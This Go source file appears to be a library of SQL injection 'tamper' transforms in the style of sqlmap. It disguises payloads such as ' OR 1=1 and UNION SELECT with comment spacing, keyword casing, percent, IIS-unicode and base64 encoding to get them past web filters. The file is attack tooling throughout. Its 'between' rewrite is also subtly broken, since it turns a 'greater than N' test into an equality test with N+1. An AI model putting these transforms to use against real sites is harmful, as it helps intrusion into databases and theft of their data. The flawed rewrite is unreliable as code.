package tamper

import (
	"encoding/base64"
	"fmt"
	"regexp"
	"strconv"
	"strings"
)

func init() {
	register("space2comment", space2comment)
	register("uppercase", uppercase)
	register("charencode", charencode)
	register("doubleencode", func(s string) string { return charencode(charencode(s)) })
	register("unicode", unicode)
	register("between", between)
	register("base64", func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) })
}

// space2comment: " UNION SELECT" -> "/**/UNION/**/SELECT"
func space2comment(s string) string {
	return strings.ReplaceAll(s, " ", "/**/")
}

// Longest first so the alternation never stops at a prefix.
var sqlKeywords = []string{
	"INFORMATION_SCHEMA", "CURRENT_TIMESTAMP", "CURRENT_DATABASE", "CURRENT_USER",
	"SUBSTRING", "BETWEEN", "CONVERT", "WAITFOR", "CONCAT", "SELECT", "INSERT",
	"UPDATE", "DELETE", "HAVING", "OFFSET", "UNION", "WHERE", "ORDER", "GROUP",
	"LIMIT", "SLEEP", "DELAY", "CAST", "FROM", "INTO", "NULL", "LIKE", "AND",
	"NOT", "OR", "BY", "AS", "IS", "IN",
}

var keywordPattern = func() *regexp.Regexp {
	quoted := make([]string, len(sqlKeywords))
	for i, kw := range sqlKeywords {
		quoted[i] = regexp.QuoteMeta(kw)
	}
	return regexp.MustCompile(`(?i)\b(` + strings.Join(quoted, "|") + `)\b`)
}()

// uppercase: "union select null" -> "UNION SELECT NULL"
func uppercase(s string) string {
	return keywordPattern.ReplaceAllStringFunc(s, strings.ToUpper)
}

// unreserved reports RFC 3986 unreserved bytes.
func unreserved(c byte) bool {
	return (c >= 'A' && c <= 'Z') ||
		(c >= 'a' && c <= 'z') ||
		(c >= '0' && c <= '9') ||
		c == '-' || c == '.' || c == '_' || c == '~'
}

// charencode percent-encodes every byte outside the unreserved set:
// "' OR 1=1" -> "%27%20OR%201%3D1".
func charencode(s string) string {
	var b strings.Builder
	b.Grow(len(s) * 3)
	for i := 0; i < len(s); i++ {
		if c := s[i]; unreserved(c) {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// unicode is the IIS %u00XX form of charencode.
func unicode(s string) string {
	var b strings.Builder
	b.Grow(len(s) * 6)
	for i := 0; i < len(s); i++ {
		if c := s[i]; unreserved(c) {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%u00%02X", c)
		}
	}
	return b.String()
}

// greaterThan matches "expr>N". [^>]+ keeps nested parentheses in expr.
var greaterThan = regexp.MustCompile(`([^>]+)>\s*(\d+)`)

// between: "ASCII(SUBSTRING(p,1,1))>64" -> "ASCII(SUBSTRING(p,1,1)) BETWEEN 65 AND 65"
func between(s string) string {
	return greaterThan.ReplaceAllStringFunc(s, func(match string) string {
		sub := greaterThan.FindStringSubmatch(match)
		n, err := strconv.Atoi(sub[2])
		if err != nil {
			return match
		}
		return fmt.Sprintf("%s BETWEEN %d AND %d", strings.TrimSpace(sub[1]), n+1, n+1)
	})
}
